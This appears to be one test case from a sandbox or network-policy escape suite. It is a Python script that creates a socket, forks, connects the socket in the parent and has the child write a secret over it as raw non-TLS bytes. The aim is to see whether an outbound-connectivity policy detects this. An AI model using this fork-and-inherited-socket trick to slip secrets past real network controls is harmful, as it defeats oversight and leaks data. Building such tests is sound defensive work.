# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a socket is made before a fork and connected after it: the child sends bytes that are not
#   TLS
# proof: word
# needs: resolver
import os
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    out = socket.socket()
    begin, end = os.pipe()
    if os.fork() == 0:
        try:
            os.close(end)
            os.read(begin, 1)
            os.write(out.fileno(), SECRET.encode())
        finally:
            os._exit(0)
    out.connect(place)
    os.close(end)
    os.wait()


@attempt
def send():
    return at_allowed(say, first=False)
